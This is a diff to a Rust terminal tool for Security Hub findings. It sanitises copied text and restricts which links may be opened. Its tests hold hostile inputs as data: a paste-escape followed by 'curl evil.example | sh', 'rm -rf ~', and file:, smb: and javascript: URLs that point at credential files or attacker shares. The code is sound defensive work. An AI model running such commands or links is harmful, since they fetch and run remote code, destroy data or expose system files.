@@ -2,13 +2,16 @@
 //! the table, or in the detail view the field / line at the top of the view; the runtime
 //! sends it to the terminal's clipboard with OSC 52, which works over SSH. `U` shows the
 //! finding's SourceUrl (else its Security Hub console link) and asks the runtime to open it
-//! when a browser is available.
+//! when a browser is available. Both distrust the text: control characters are stripped
+//! before copying (a pasted ESC[201~ would end bracketed paste and run what follows), and
+//! only `https:` / `http:` links go to the opener (`file:`, `smb:`, a `.desktop` file do not).
 
 use super::detail::DetailLine;
 use crate::app::State;
 use crate::app::action::NotifyLevel;
 use crate::app::effect::Effect;
 use crate::domain::finding::Finding;
+use crate::domain::sanitize;
 
 /// The OSC 52 escape that puts `text` on the clipboard ("c" selection), base64 encoded.
 pub fn osc52(text: &str) -> String {
@@ -71,10 +74,17 @@ pub(crate) fn copy(state: &mut State) -> Vec<Effect> {
             return Vec::new();
         }
     };
+    let stripped = sanitize::strip(&text);
+    let note = if stripped.len() == text.len() {
+        ""
+    } else {
+        " (control characters removed)"
+    };
+    let text = stripped.into_owned();
     let shown: String = text.chars().take(60).collect();
     state.notify(
         NotifyLevel::Success,
-        format!("copied {what} to the clipboard (OSC 52): {shown}"),
+        format!("copied {what} to the clipboard (OSC 52){note}: {shown}"),
     );
     vec![Effect::Copy(text)]
 }
@@ -95,12 +105,32 @@ pub fn url_of(f: &Finding, region: &str) -> String {
     )
 }
 
+/// Only web links are handed to the opener: `xdg-open` / `open` would just as well run a
+/// `.desktop` file or mount an `smb:` share. A link with control or invisible characters
+/// is not opened either (what is shown must be what is opened).
+pub fn openable(url: &str) -> bool {
+    let scheme = url.split_once(':').map(|(s, _)| s.to_ascii_lowercase());
+    matches!(scheme.as_deref(), Some("https" | "http"))
+        && url[url.find(':').map_or(0, |i| i + 1)..].starts_with("//")
+        && !url
+            .chars()
+            .any(|c| sanitize::is_hostile(c) || c.is_whitespace())
+}
+
 pub(crate) fn open(state: &mut State) -> Vec<Effect> {
     let Some(url) = current(state).map(|f| url_of(f, &state.session.region)) else {
         state.notify(NotifyLevel::Info, "no finding selected");
         return Vec::new();
     };
-    state.notify(NotifyLevel::Info, format!("open {url}"));
+    let shown = sanitize::visible(&url);
+    if !openable(&url) {
+        state.notify(
+            NotifyLevel::Warning,
+            format!("not opened (only https: and http: links are): {shown}"),
+        );
+        return Vec::new();
+    }
+    state.notify(NotifyLevel::Info, format!("open {shown}"));
     vec![Effect::OpenUrl(url)]
 }
 
@@ -139,6 +169,97 @@ mod tests {
             )],
             "{fx:?}"
         );
+    }
+
+    /// A state whose only finding has this Id and SourceUrl.
+    fn with_finding(id: &str, source_url: Option<&str>) -> State {
+        let mut raw = serde_json::json!({
+            "Id": id,
+            "ProductArn": "arn:aws:securityhub:us-east-1::product/aws/securityhub",
+            "Title": "hostile",
+            "Severity": {"Label": "HIGH"},
+            "Workflow": {"Status": "NEW"},
+            "RecordState": "ACTIVE",
+            "Resources": [{"Type": "Other", "Id": "r"}],
+            "AwsAccountId": "111122223333",
+            "UpdatedAt": "2024-05-01T10:00:00Z"
+        });
+        if let Some(u) = source_url {
+            raw["SourceUrl"] = u.into();
+        }
+        let mut s = loaded(0, true);
+        s.findings.start_load();
+        let request = s.findings.request;
+        crate::app::update(
+            &mut s,
+            crate::app::Action::Findings(crate::app::FindingsMsg::Page {
+                request,
+                findings: vec![Finding::from_asff(raw).unwrap()],
+                next_token: None,
+            }),
+        );
+        assert_eq!(s.findings.rows().len(), 1);
+        s
+    }
+
+    #[test]
+    fn c_strips_control_characters_so_a_paste_cannot_run_commands() {
+        for (id, copied) in [
+            (
+                "f-1\x1b[201~; curl evil.example | sh\n",
+                "f-1[201~; curl evil.example | sh",
+            ),
+            ("f-2\r\nrm -rf ~\u{9b}0m", "f-2rm -rf ~0m"),
+            ("\u{202E}gnp.exe\u{200B}", "gnp.exe"),
+        ] {
+            let mut s = with_finding(id, None);
+            assert_eq!(
+                keys(&mut s, "c"),
+                vec![Effect::Copy(copied.into())],
+                "{id:?}"
+            );
+            let shown = crate::app::tests::messages(&s).join("\n");
+            assert!(shown.contains("control characters removed"), "{shown}");
+            assert!(!shown.chars().any(sanitize::is_hostile), "{shown:?}");
+        }
+        // Nothing to remove, nothing said about it.
+        let mut s = with_finding("arn:aws:x:us-east-1:1:finding/plain", None);
+        assert_eq!(
+            keys(&mut s, "c"),
+            vec![Effect::Copy("arn:aws:x:us-east-1:1:finding/plain".into())]
+        );
+        assert!(!crate::app::tests::messages(&s)[0].contains("removed"));
+    }
+
+    #[test]
+    fn u_opens_only_web_links_and_shows_the_others_without_opening() {
+        for url in ["https://example.com/finding?id=1", "HTTP://example.com/x"] {
+            let mut s = with_finding("f", Some(url));
+            assert_eq!(
+                keys(&mut s, "U"),
+                vec![Effect::OpenUrl(url.into())],
+                "{url}"
+            );
+        }
+        for url in [
+            "file:///etc/passwd",
+            "smb://attacker.example/share",
+            "file:///home/u/Downloads/evil.desktop",
+            "javascript:alert(1)",
+            "https:evil.example",
+            "https://ok.example/\x1b]52;c;eA==\x07",
+            "https://ok.example/ file:///etc/passwd",
+            "--help",
+        ] {
+            let mut s = with_finding("f", Some(url));
+            assert_eq!(keys(&mut s, "U"), Vec::<Effect>::new(), "{url:?}");
+            let shown = crate::app::tests::messages(&s).join("\n");
+            assert!(
+                shown.starts_with("not opened (only https: and http: links are): "),
+                "{shown}"
+            );
+            assert!(!shown.chars().any(sanitize::is_hostile), "{shown:?}");
+        }
     }
 
     #[test]
